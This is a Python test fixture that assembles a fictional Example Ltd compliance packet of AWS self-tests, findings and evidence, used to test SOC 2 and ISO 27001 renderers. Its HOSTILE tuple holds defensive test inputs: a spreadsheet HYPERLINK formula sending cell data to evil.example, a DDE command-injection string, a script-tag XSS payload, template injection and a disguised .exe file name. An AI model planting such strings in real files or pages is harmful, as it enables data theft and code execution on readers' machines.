"""controls/ and a few invented facts -> one frozen, realistic `Packet` for the tests of every renderer.

39 responsibilities and 430 links are those of the catalog; tests, findings, refusals and evidence are
invented for the fictional Example Ltd. Names of resources are hostile on purpose: see HOSTILE. `packet()` is cached.
"""

from __future__ import annotations

import base64
import datetime as dt
import hashlib
from collections import Counter
from functools import cache
from pathlib import Path
from typing import Any

import yaml

from srm_docs.packet import model as m

CONTROLS = Path(__file__).parents[1] / "controls"
PRODUCTION, DEVELOPMENT = "111122223333", "444455556666"
EUROPE, AMERICA = "eu-west-1", "us-east-1"
SNAPSHOT = "2026-11-23T200805Z-3f9a7c"
READ = "23 November 2026 20:08 UTC"

HOSTILE = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click me")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "#REF!",
    "_x0041_ is not A",
    "<script>alert('xss')</script>",
    "{{ 7*7 }}{% raw %}",
    "invoice-\u202egnp.exe\u202c \u0645\u0631\u062d\u0628\u0627",
    "nul\x00 bell\x07 vt\x0b c1\x85 del\x7f",
    "lone \ud800 surrogate, nonchar \ufffe and \U0001ffff",
    "\u8acb\u6c42\u66f8\u51e6\u7406\u30b5\u30fc\u30d0\u30fc \U0001f600",
    "  two spaces and\na new line",
    "x" * 40_000,
)
"""Names that AWS would accept, or nearly so; every output must print them as text."""

# test id: (responsibility, title, call, noun, met, unmet, unknown, severity)
_TESTS: dict[str, tuple[str, str, str, str, int, int, int, str]] = {
    "security-group-admits-no-admin-port": (
        "networking.security-groups-nacls",
        "Every security group keeps SSH and RDP closed to the internet",
        "ec2:DescribeSecurityGroups", "security group", 23, 2, 0, "high",
    ),
    "default-security-group-is-closed": (
        "networking.security-groups-nacls",
        "The default security group of every VPC admits no traffic",
        "ec2:DescribeSecurityGroups", "default security group", 6, 0, 0, "medium",
    ),
    "vpc-has-flow-logs": (
        "networking.vpc-configuration",
        "Every VPC sends flow logs",
        "ec2:DescribeFlowLogs", "VPC", 5, 0, 1, "medium",
    ),
    "vpn-has-two-tunnels-up": (
        "networking.vpn-direct-connect",
        "Both tunnels of every site-to-site VPN connection are up",
        "ec2:DescribeVpnConnections", "VPN connection", 0, 0, 0, "medium",
    ),
    "bucket-blocks-public-access": (
        "data.data-classification-encryption",
        "Every bucket blocks public access",
        "s3:GetPublicAccessBlock", "bucket", 12, 16, 0, "critical",
    ),
    "volume-is-encrypted": (
        "data.data-classification-encryption",
        "Every EBS volume is encrypted",
        "ec2:DescribeVolumes", "volume", 1_204, 0, 0, "high",
    ),
    "key-rotates": (
        "data.key-usage-policies",
        "Every customer-managed key rotates",
        "kms:GetKeyRotationStatus", "key", 0, 0, 4, "medium",
    ),
    "root-has-mfa": (
        "identity-access-management.iam-policies",
        "The root user of every account signs in with MFA",
        "iam:GetAccountSummary", "account", 2, 0, 0, "critical",
    ),
    "policy-grants-no-full-administration": (
        "identity-access-management.least-privilege",
        "No customer-managed policy grants every action on every resource",
        "iam:GetPolicyVersion", "policy", 40, 1, 0, "high",
    ),
    "trail-records-every-region": (
        "monitoring-logging.enable-analyze-logs",
        "A trail records management events of every region",
        "cloudtrail:DescribeTrails", "account", 1, 1, 0, "high",
    ),
    "instance-requires-imdsv2": (
        "hypervisor-virtualization.vm-configuration",
        "Every instance requires version 2 of the instance metadata service",
        "ec2:DescribeInstances", "instance", 25, 0, 0, "medium",
    ),
    "instance-is-patched": (
        "operating-system-runtime.ec2-os-patching",
        "Every managed instance has the patches that its baseline asks for",
        "ssm:DescribeInstancePatchStates", "instance", 20, 0, 5, "high",
    ),
}  # fmt: skip

_REFUSED = (
    ("ec2:DescribeFlowLogs", DEVELOPMENT, AMERICA, "denied", "UnauthorizedOperation"),
    ("kms:GetKeyRotationStatus", PRODUCTION, EUROPE, "denied", "AccessDeniedException"),
    ("kms:GetKeyRotationStatus", DEVELOPMENT, EUROPE, "partial", "ThrottlingException"),
    ("ssm:DescribeInstancePatchStates", PRODUCTION, AMERICA, "throttled", "ThrottlingException"),
    ("organizations:DescribeOrganization", PRODUCTION, "", "not run", "NotRun"),
    ("wafv2:ListWebACLs", DEVELOPMENT, AMERICA, "disabled", "OptInRequired"),
)
_REPORTS = (
    ("aws-soc2-type2", "AWS SOC 2 Type 2 report", True),
    ("aws-iso27001-cert-soa", "AWS ISO/IEC 27001 certificate and Statement of Applicability", True),
    ("aws-soc-continued-operations-letter", "AWS SOC Continued Operations Letter", False),
)


def evidence_id(*question: str) -> str:
    """An id as the collector makes it: `EV-` and 8 base32 characters."""
    digest = hashlib.sha256("|".join(question).encode("utf-8", "surrogatepass")).digest()
    return "EV-" + base64.b32encode(digest).decode()[:8]


@cache
def packet() -> m.Packet:
    """The whole sample: all ten domains, 61 criteria, 93 controls, 30 clauses."""
    return _Maker().packet()


@cache
def _read(path: Path) -> Any:
    return yaml.safe_load(path.read_text("utf-8"))


class _Maker:
    def __init__(self) -> None:
        self.sources = [_read(path) for path in sorted((CONTROLS / "domains").glob("*.yaml"))]
        self.frameworks = {name: _read(CONTROLS / "frameworks" / f"{name}.yaml") for name in ("soc2", "iso27001")}
        self.titles = {
            (name, req["id"]): req["title"]
            for name, framework in self.frameworks.items()
            for group in framework["groups"]
            for req in group["requirements"]
        }
        self.evidence = self._evidence()
        self.unread = self._unread()
        self.domains = tuple(self._domain(at, source) for at, source in enumerate(self.sources, 1))
        self.tests = tuple(test for domain in self.domains for test in domain.tests)
        self.findings = tuple(finding for domain in self.domains for finding in domain.findings)
        self.bullets = [line for domain in self.domains for line in _bullets(domain)]
        self.links = [link for bullet in self.bullets for link in bullet.links]

    # ---- evidence, coverage, refusals

    def _evidence(self) -> tuple[m.EvidenceLine, ...]:
        calls = [*dict.fromkeys(spec[2] for spec in _TESTS.values()), "artifact:ListReports"]
        asked = [
            (call, acc, region) for call in calls for acc in (PRODUCTION, DEVELOPMENT) for region in _regions(call)
        ]
        refused = {(call, acc, region): (state, code) for call, acc, region, state, code in _REFUSED}
        lines = [self._item(at, *place, *refused.get(place, ("ok", ""))) for at, place in enumerate(asked)]
        return tuple(sorted(lines, key=lambda line: line.id))

    def _item(self, at: int, call: str, account: str, region: str, state: str, code: str) -> m.EvidenceLine:
        ident = evidence_id(call, account, region)
        whole = state in {"ok", "partial"}
        return m.EvidenceLine(
            id=ident,
            title=f"{call} in {account}{' ' + region if region else ''}",
            file=f"evidence/{ident}.json" if whole else "",
            call=call,
            params='{"MaxResults":100}' if at % 3 else "{}",
            account=account,
            partition="aws",
            region=region or "global",
            state=state,
            caller_arn=f"arn:aws:sts::{account}:assumed-role/srm-docs-reader/srm-docs",
            tool="srm-docs 0.1.0",
            started=f"23 November 2026 20:08:{at % 60:02} UTC",
            ended=f"23 November 2026 20:08:{at % 60:02} UTC",
            aws_date=f"23 November 2026 20:08:{at % 60:02} UTC",
            skew="0 s",
            request_ids=tuple(hashlib.sha256(f"{at}.{page}".encode()).hexdigest()[:32] for page in range(1 + at % 2)),
            paginated="yes" if at % 3 else "no",
            pages=1 + at % 2 if whole else 0,
            rows=7 * at if whole else 0,
            size=2_048 + 311 * at if whole else 0,
            sha256=hashlib.sha256(ident.encode()).hexdigest() if whole else "",
            error=f"{code}: not authorized to perform {call}" if code else "",
            redactions=1 if at % 5 == 2 else 0,
            requirements=("CC6.1", "CC6.6", "A.8.20", "A.8.22")[: 1 + at % 4],
            responsibilities=tuple(dict.fromkeys(spec[0] for spec in _TESTS.values() if spec[2] == call)),
        )

    def _unread(self) -> tuple[m.UnreadLine, ...]:
        return tuple(
            m.UnreadLine(
                call=call,
                account=account,
                region=region or "global",
                state=state,
                code=code,
                message=f"User: arn:aws:sts::{account}:assumed-role/srm-docs-reader "
                f"is not authorized to perform {call}",
                asked=4 if state == "partial" else 1,
                answered=1 if state == "partial" else 0,
                affects=tuple(name for name, spec in _TESTS.items() if spec[2] == call),
                mend=f"Allow {call} for the role srm-docs-reader, then collect again.",
                evidence=(evidence_id(call, account, region),),
            )
            for call, account, region, state, code in _REFUSED
        )

    def _coverage(self) -> tuple[m.CoverageLine, ...]:
        lines = [
            m.CoverageLine(
                call=item.call,
                account=item.account,
                region=item.region,
                state=item.state,
                shape=m.Shape.MET if item.state == "ok" else m.Shape.PARTLY if item.pages else m.Shape.UNREAD,
                asked=max(1, item.pages),
                answered=item.pages,
                rows=item.rows,
                pages=item.pages,
                why=item.error,
                evidence=(item.id,),
            )
            for item in self.evidence
        ]
        lines += [
            m.CoverageLine(
                call=call, account=PRODUCTION, region=region, state="out of scope",
                shape=m.Shape.NOT_APPLICABLE,
                asked=0, answered=0, rows=0, pages=0, why="Left out by configuration", evidence=(),
            )
            for call in ("ec2:DescribeInstances", "ec2:DescribeVolumes")
            for region in ("eu-central-1", "eu-north-1")
        ]  # fmt: skip
        return tuple(sorted(lines, key=lambda line: (line.call, line.account, line.region)))

    # ---- domains

    def _domain(self, number: int, source: Any) -> m.DomainLine:
        tests = tuple(self._test(name) for name, spec in _TESTS.items() if spec[0].split(".")[0] == source["id"])
        bullets = [self._bullet(source, item, tests) for item in source["responsibilities"]]
        findings = tuple(self._finding(test, source["title"]) for test in tests if test.unmet)
        customer = tuple(line for line in bullets if line.side == "customer" and line.kind != "not applicable")
        return m.DomainLine(
            number=number,
            id=source["id"],
            title=source["title"],
            lead=f"{source['aws_does']} {source['customer_does']}",
            met=sum(test.answer.shape is m.Shape.MET for test in tests),
            unmet=len(findings),
            unknown=sum(test.answer.shape is m.Shape.UNREAD for test in tests),
            not_applicable=sum(test.answer.shape is m.Shape.NOT_APPLICABLE for test in tests),
            evidence_items=len({item for test in tests for item in test.evidence}),
            aws=tuple(line for line in bullets if line.side == "aws"),
            customer=customer,
            not_applicable_line=next((line for line in bullets if line.kind == "not applicable"), None),
            tests=tests,
            findings=findings,
            unread=tuple(line for line in self.unread if {test.id for test in tests} & set(line.affects)),
            inspected=f"Configuration of every resource in 2 accounts and 2 regions, as read on {READ}."
            if tests
            else "",
        )

    def _bullet(self, source: Any, item: Any, tests: tuple[m.TestLine, ...]) -> m.ResponsibilityLine:
        ident = f"{source['id']}.{item['id']}"
        mine = [test for test in tests if ident in test.responsibilities]
        links = tuple(
            m.LinkLine(
                responsibility=ident, responsibility_text=item["text"], side=item["side"], framework=name,
                requirement=req, requirement_title=self.titles[name, req],
                strength=strength, confidence=confidence, because=because,
            )
            for name in ("soc2", "iso27001")
            for req, (strength, confidence, because) in item.get(name, {}).items()
        )  # fmt: skip
        aws = item["side"] == "aws"
        return m.ResponsibilityLine(
            id=ident,
            domain=source["id"],
            text=item["text"],
            side=item["side"],
            kind=item["kind"].replace("_", " "),
            expectation=item.get("csoc", "") or item.get("aws_cuec", ""),
            caveat=item.get("caveat", ""),
            otherwise=item.get("otherwise", ""),
            soc2_primary=_ids(links, "soc2", "primary"),
            soc2_supporting=_ids(links, "soc2", "supporting"),
            iso_primary=_ids(links, "iso27001", "primary"),
            iso_supporting=_ids(links, "iso27001", "supporting"),
            answer=_bullet_answer(item, mine),
            tests=tuple(test.id for test in mine),
            relied_on=tuple(title for key, title, _ in _REPORTS if key in item.get("reports", ())),
            review=m.NOT_PROVIDED if aws else "",
            evidence=(evidence_id("artifact:ListReports", PRODUCTION, AMERICA),)
            if aws
            else tuple(dict.fromkeys(ev for test in mine for ev in test.evidence)),
            links=links,
        )

    def _test(self, name: str) -> m.TestLine:
        bullet, title, call, noun, met, unmet, unknown, severity = _TESTS[name]
        whole = met + unmet + unknown
        answer = _test_answer(met, unmet, unknown, noun)
        items = tuple(item.id for item in self.evidence if item.call == call)
        return m.TestLine(
            id=name,
            title=title,
            reason="A setting that is open to any address can be reached by anyone who looks for it.",
            remedy="Change the setting in the infrastructure code, deploy it and collect again.",
            severity=severity,
            domain=bullet.split(".")[0],
            responsibilities=(bullet,),
            procedure=f"Inspected the configuration of {whole:,} {noun}s in 2 accounts and 2 regions "
            f"as returned by {call} on {READ}.",
            population=f"{whole:,} {noun}{'' if whole == 1 else 's'}",
            answer=answer,
            met=met,
            unmet=unmet,
            unknown=unknown,
            not_applicable=0,
            places_unread=1 if unknown else 0,
            soc2=("CC6.1", "CC6.6"),
            iso=("A.8.20", "A.8.22"),
            primary=("CC6.6", "A.8.20"),
            calls=(call,),
            evidence=items,
            deviations=tuple(self._resource(items, at, f"{noun}: {name}") for at in range(unmet)),
            not_determined=tuple(
                self._resource(items, at, f"{call} was refused", m.Answer(text="Not read", shape=m.Shape.UNREAD))
                for at in range(unknown)
            ),
            gaps=(f"{call} in {DEVELOPMENT} {AMERICA} was refused",) if unknown else (),
            notes=(),
        )

    def _resource(self, items: tuple[str, ...], at: int, note: str, status: m.Answer | None = None) -> m.ResourceLine:
        return m.ResourceLine(
            name=HOSTILE[at % len(HOSTILE)],
            account=(PRODUCTION, DEVELOPMENT)[at % 2],
            region=(EUROPE, AMERICA)[at // 2 % 2],
            note=note,
            status=status or m.Answer(text="Deviation", shape=m.Shape.DEVIATION),
            evidence=items[at % len(items) : at % len(items) + 1],
        )

    def _finding(self, test: m.TestLine, domain_title: str) -> m.FindingLine:
        whole = test.met + test.unmet + test.unknown
        noun = test.population.split(" ", 1)[1]
        return m.FindingLine(
            id=test.id,
            number="F-" + evidence_id(test.id)[3:8],
            title=f"{test.unmet:,} of {whole:,} {noun} deviated: {test.title[0].lower()}{test.title[1:]}",
            severity=test.severity,
            domain=test.domain,
            domain_title=domain_title,
            responsibilities=test.responsibilities,
            soc2=test.soc2,
            iso=test.iso,
            primary=test.primary,
            count=f"{test.unmet:,} of {whole:,}",
            cause=m.NOT_PROVIDED,
            effect="The setting admits access that the organization did not state that it wants.",
            remedy=test.remedy,
            resources=test.deviations,
            evidence=test.evidence,
            response=m.NOT_PROVIDED,
            owner=m.NOT_PROVIDED,
            also_unread=test.gaps[0] if test.gaps else "",
        )

    # ---- requirements

    def _requirements(self, name: str, kinds: set[str]) -> tuple[m.RequirementLine, ...]:
        return tuple(
            self._requirement(name, group, req)
            for group in self.frameworks[name]["groups"]
            if group["kind"] in kinds
            for req in group["requirements"]
        )

    def _requirement(self, name: str, group: Any, req: Any) -> m.RequirementLine:
        links = tuple(link for link in self.links if (link.framework, link.requirement) == (name, req["id"]))
        primary = tuple(link.responsibility for link in links if link.strength == "primary")
        mine = [test for test in self.tests if set(test.responsibilities) & set(primary)]
        statement, because = _statement(links, primary, mine, req)
        soa = name == "iso27001"
        return m.RequirementLine(
            framework=name,
            kind=group["kind"],
            id=req["id"],
            title=req["title"],
            summary=req["summary"],
            group=group["id"],
            group_title=group["title"],
            category=group["category"],
            responsibility=(group | req)["owner"],
            owner_because=(group | req)["because"],
            statement=statement,
            because=because,
            bring="; ".join(req.get("manual_evidence", [])),
            tests=len(mine),
            tests_line=f"{len(mine)} self-tests through primary links" if mine else "",
            primary=primary,
            supporting=tuple(link.responsibility for link in links if link.strength == "supporting"),
            evidence=tuple(dict.fromkeys(ev for test in mine for ev in test.evidence)),
            links=links,
            applicable="Yes, by default; not confirmed" if soa else "",
            inclusion=m.NOT_PROVIDED if soa else "",
            exclusion="",
            implemented=m.NOT_PROVIDED if soa else "",
            own_control=m.NOT_PROVIDED,
            own_description=m.NOT_PROVIDED,
            own_owner=m.NOT_PROVIDED,
            own_frequency=m.NOT_PROVIDED,
        )

    def _matrix(self, name: str) -> tuple[m.MatrixRow, ...]:
        tests = {test.id: test for test in self.tests}
        rows = []
        for bullet in self.bullets:
            for link in bullet.links:
                if link.framework != name or link.side != "customer":
                    continue
                mine = [tests[ident] for ident in bullet.tests]
                rows.append(
                    m.MatrixRow(
                        framework=name,
                        requirement=link.requirement,
                        requirement_title=link.requirement_title,
                        responsibility=bullet.id,
                        responsibility_text=bullet.text,
                        strength=link.strength,
                        procedure=" ".join(test.procedure for test in mine) or m.NOT_PROVIDED,
                        population="; ".join(test.population for test in mine) or m.NOT_PROVIDED,
                        result=_self_test(bullet.answer),
                        detail="; ".join(f"{test.title}: {test.answer.text}" for test in mine),
                        evidence=bullet.evidence,
                        own_control=m.NOT_PROVIDED,
                        own_description=m.NOT_PROVIDED,
                        own_owner=m.NOT_PROVIDED,
                        own_frequency=m.NOT_PROVIDED,
                    )
                )
        return tuple(sorted(rows, key=lambda row: _natural(row.requirement)))

    def _controls(self, side: str) -> tuple[m.ControlStatement, ...]:
        return tuple(
            m.ControlStatement(
                id=bullet.id,
                domain=bullet.domain,
                text=bullet.text,
                statement=bullet.expectation,
                soc2=bullet.soc2_primary,
                monitored_by=m.NOT_PROVIDED,
                answer=bullet.answer,
                evidence=bullet.evidence,
            )
            for bullet in self.bullets
            if bullet.side == side and bullet.kind != "not applicable"
        )

    # ---- the whole

    def packet(self) -> m.Packet:
        soc2 = self._requirements("soc2", {"criterion"})
        annex_a = self._requirements("iso27001", {"control"})
        coverage = self._coverage()
        return m.Packet(
            meta=META,
            scope=_scope(),
            summary=self._summary(soc2, annex_a, coverage),
            domains=self.domains,
            soc2=soc2,
            annex_a=annex_a,
            clauses=self._requirements("iso27001", {"clause"}),
            soc2_matrix=self._matrix("soc2"),
            iso_matrix=self._matrix("iso27001"),
            tests=self.tests,
            findings=self.findings,
            unread=self.unread,
            reports=self._reports(),
            csocs=self._controls("aws"),
            cuecs=self._controls("customer"),
            evidence=self.evidence,
            coverage=coverage,
            redactions=tuple(
                m.RedactionLine(
                    evidence=item.id, call=item.call, account=item.account, region=item.region,
                    path=f"$.Reservations[{at}].Instances[0].UserData", kind="user data",
                    why="User data often holds secrets; its length and digest are kept",
                )
                for at, item in enumerate(item for item in self.evidence if item.redactions)
            ),
            gaps=tuple(
                m.GapLine(
                    subject=line.id, what=line.title, bring=line.bring or "A statement", where="SOC 2"
                )
                for line in soc2
                if line.statement.shape is m.Shape.MISSING
            ),
            parameters=(
                m.ParameterLine(
                    id="access-key-age", title="Greatest age of an access key", value="90", default="90",
                    loosest="365", unit="days", tests=("root-has-mfa",),
                ),
            ),
            statements=tuple(
                m.StatementLine(
                    statement=answer,
                    when=when,
                    count_soc2=sum(line.statement.shape is answer.shape for line in soc2),
                    count_iso=sum(line.statement.shape is answer.shape for line in annex_a),
                )
                for answer, when in _STATEMENTS
            ),
            sources=(("prowler", "Ids of requirements only"), ("CSA CCM 4.0", "Pairs of ids only")),
            contents=tuple(
                m.FileLine(path=item.file, sha256=item.sha256, size=item.size, title=item.title)
                for item in self.evidence
                if item.file
            ),
            contents_digest=hashlib.sha256(b"contents").hexdigest(),
        )  # fmt: skip

    def _reports(self) -> tuple[m.ReportLine, ...]:
        return tuple(
            m.ReportLine(
                id=ident,
                title=title,
                listed_as=title if listed else "",
                series="SOC" if "soc" in ident else "ISO",
                version="1" if listed else "",
                period="1 October 2025 to 30 September 2026" if listed else "",
                answer=m.Answer(text="Listed in AWS Artifact", shape=m.Shape.INHERITED)
                if listed
                else m.Answer(text=m.NOT_PROVIDED, shape=m.Shape.MISSING),
                uncovered="92 of 365 days of the audit period" if listed else "Not determinable",
                review=m.NOT_PROVIDED,
                evidence=(evidence_id("artifact:ListReports", PRODUCTION, AMERICA),),
                relied_on_by=sum(title in bullet.relied_on for bullet in self.bullets),
            )
            for ident, title, listed in _REPORTS
        )

    def _summary(
        self,
        soc2: tuple[m.RequirementLine, ...],
        annex_a: tuple[m.RequirementLine, ...],
        coverage: tuple[Any, ...],
    ) -> m.Summary:
        shapes = Counter(test.answer.shape for test in self.tests)
        states = Counter(line.state for line in coverage)
        return m.Summary(
            lead=f"Example Ltd met {shapes[m.Shape.MET]} of {len(self.tests)} self-tests of its part. "
            f"{shapes[m.Shape.DEVIATION]} found deviations; {shapes[m.Shape.UNREAD]} could not be completed, "
            "because AWS refused the read.",
            tests=len(self.tests),
            met=shapes[m.Shape.MET],
            unmet=shapes[m.Shape.DEVIATION],
            unknown=shapes[m.Shape.UNREAD],
            not_applicable=shapes[m.Shape.NOT_APPLICABLE],
            aws_bullets=sum(line.side == "aws" for line in self.bullets),
            customer_bullets=sum(line.side == "customer" for line in self.bullets),
            links=len(self.links),
            read_first=(
                ("16 of 28 buckets deviated", "Every bucket blocks public access. Findings, sheet Findings."),
                ("6 of 44 planned calls were not answered in full", "What they leave open is in Coverage."),
                ("No evidence was provided for CC1.2", "Board oversight. Gaps say what to bring."),
            ),
            out_of_scope="4 planned calls lie in regions that the configuration leaves out.",
            refused="6 planned calls were refused or not answered in full.",
            responsibility_split=(
                ("39 responsibilities of the AWS model", 14, 8, 17),
                ("61 SOC 2 criteria", 2, 21, 38),
                ("93 Annex A controls", 11, 30, 52),
            ),
            statements_soc2=_counted(soc2),
            statements_iso=_counted(annex_a),
            coverage_totals=tuple(states.most_common()),
        )


META = m.Meta(
    organization="Example Ltd",
    system="Billing platform",
    audit_type="SOC 2 Type 2 and ISO/IEC 27001:2022",
    period="1 December 2025 to 30 November 2026",
    as_read=READ,
    snapshot=SNAPSHOT,
    snapshot_digest=hashlib.sha256(b"snapshot").hexdigest(),
    chain_head=hashlib.sha256(b"link").hexdigest(),
    packet=f"{SNAPSHOT}-b1946ac9",
    tool="srm-docs 0.1.0",
    catalog_digest=hashlib.sha256(b"catalog").hexdigest(),
    version="0.3 draft for walkthrough",
    classification="Confidential",
    prepared_by="Head of Compliance",
    accent="#123A5C",
    paper="A4",
    demo=True,
    statement="Prepared by management, not audited",
    as_read_sentence=f"As read on {READ}; shows that time only.",
    type_2_sentence="One snapshot shows one day: operation over the period is not evidenced by it.",
    mapping_approval="Mapping not approved by management",
    generated=dt.datetime(2026, 11, 23, 20, 8, 5, tzinfo=dt.UTC),
)

_STATEMENTS = (
    (
        m.Answer(text="Deviation noted", shape=m.Shape.DEVIATION),
        "A self-test with a primary link found a deviation.",
    ),
    (
        m.Answer(text="Not determinable", shape=m.Shape.UNREAD),
        "A self-test with a primary link could not be completed.",
    ),
    (
        m.Answer(text="Not provided", shape=m.Shape.MISSING),
        "No evidence from AWS, and no document was provided.",
    ),
    (
        m.Answer(text="Partly evidenced", shape=m.Shape.PARTLY),
        "Supporting links only, or documents are outstanding.",
    ),
    (
        m.Answer(text="Inherited: report listed, review not provided", shape=m.Shape.INHERITED),
        "AWS does it; its report is listed in AWS Artifact.",
    ),
    (
        m.Answer(text="No deviation in N self-tests", shape=m.Shape.MET),
        "Every self-test with a primary link was met.",
    ),
    (m.Answer(text="Not applicable", shape=m.Shape.NOT_APPLICABLE), "The reason is given."),
)


def _statement(
    links: tuple[m.LinkLine, ...], primary: tuple[str, ...], mine: list[m.TestLine], req: Any
) -> tuple[m.Answer, str]:
    """A rough roll-up: good enough to show every statement once, no model for the real one."""
    shapes = {test.answer.shape for test in mine}
    if m.Shape.DEVIATION in shapes:
        return _STATEMENTS[0][0], "; ".join(test.title for test in mine if test.unmet)
    if m.Shape.UNREAD in shapes:
        return _STATEMENTS[1][0], "; ".join(gap for test in mine for gap in test.gaps)
    if req.get("owner") == "aws":
        return _STATEMENTS[4][0], "AWS SOC 2 Type 2 report"
    if not links:
        return _STATEMENTS[2][0], "No responsibility of the AWS model reaches it; documents are needed."
    if mine and not req.get("manual_evidence"):
        text = f"No deviation in {len(mine)} self-test{'' if len(mine) == 1 else 's'}"
        return m.Answer(text=text, shape=m.Shape.MET), "; ".join(test.title for test in mine)
    return _STATEMENTS[3][0], "Supporting links only" if not primary else "Documents are outstanding"


def _bullet_answer(item: Any, mine: list[m.TestLine]) -> m.Answer:
    if item["kind"] == "not_applicable":
        return m.Answer(text="Not applicable", shape=m.Shape.NOT_APPLICABLE)
    if item["side"] == "aws":
        return m.Answer(text="Inherited: report listed, review not provided", shape=m.Shape.INHERITED)
    if not mine:
        return m.Answer(text=m.NOT_PROVIDED, shape=m.Shape.MISSING)
    for shape, word in ((m.Shape.DEVIATION, "Deviation"), (m.Shape.UNREAD, "Not read")):
        count = sum(test.answer.shape is shape for test in mine)
        if count:
            return m.Answer(text=f"{word}, {count} of {len(mine)} self-tests", shape=shape)
    return m.Answer(text=f"Met, {len(mine)} of {len(mine)} self-tests", shape=m.Shape.MET)


def _test_answer(met: int, unmet: int, unknown: int, noun: str) -> m.Answer:
    whole = met + unmet + unknown
    if unmet:
        return m.Answer(text=f"Deviation, {unmet:,} of {whole:,}", shape=m.Shape.DEVIATION)
    if unknown:
        return m.Answer(text="Not read, 1 place", shape=m.Shape.UNREAD)
    if not whole:
        return m.Answer(text=f"Not applicable: no {noun}", shape=m.Shape.NOT_APPLICABLE)
    return m.Answer(text=f"Met, {met:,} of {whole:,}", shape=m.Shape.MET)


def _self_test(answer: m.Answer) -> m.Answer:
    words = {
        m.Shape.MET: "No exceptions noted",
        m.Shape.DEVIATION: "Exception noted",
        m.Shape.UNREAD: "Not read",
    }
    return m.Answer(text=words.get(answer.shape, answer.text), shape=answer.shape)


def _scope() -> m.Scope:
    entered = m.Answer(text="Yes", shape=m.Shape.MET)
    return m.Scope(
        accounts=tuple(
            m.AccountLine(
                id=account,
                name=name,
                caller_arn=f"arn:aws:sts::{account}:assumed-role/srm-docs-reader/srm-docs",
                entered=entered,
                regions=(EUROPE, AMERICA),
                left_out=("eu-central-1", "eu-north-1"),
                regions_listed=True,
            )
            for account, name in ((PRODUCTION, "example-production"), (DEVELOPMENT, "example-development"))
        ),
        regions=(EUROPE, AMERICA),
        left_out=("eu-central-1", "eu-north-1"),
        completeness=m.Answer(
            text="Not complete: 2 of 4 enabled regions are left out by configuration", shape=m.Shape.PARTLY
        ),
        frameworks=("SOC 2", "ISO/IEC 27001:2022"),
        categories=("Security", "Availability", "Confidentiality"),
        categories_out=("Processing integrity", "Privacy"),
        offices="Offices and staff devices are not in scope.",
        skew="0 s",
    )


def _bullets(domain: m.DomainLine) -> tuple[m.ResponsibilityLine, ...]:
    last = (domain.not_applicable_line,) if domain.not_applicable_line else ()
    return domain.aws + domain.customer + last


def _regions(call: str) -> tuple[str, ...]:
    if call.split(":", maxsplit=1)[0] in {"iam", "s3"}:
        return ("",)
    return (AMERICA,) if call.startswith("artifact") else (EUROPE, AMERICA)


def _ids(links: tuple[m.LinkLine, ...], framework: str, strength: str) -> tuple[str, ...]:
    return tuple(link.requirement for link in links if (link.framework, link.strength) == (framework, strength))


def _counted(lines: tuple[m.RequirementLine, ...]) -> tuple[tuple[m.Answer, int], ...]:
    counts = Counter(line.statement.shape for line in lines)
    return tuple((answer, counts[answer.shape]) for answer, _ in _STATEMENTS if counts[answer.shape])


def _natural(ident: str) -> tuple[str | int, ...]:
    return tuple(int(part) if part.isdigit() else part for part in ident.replace("CC", "0CC").split("."))
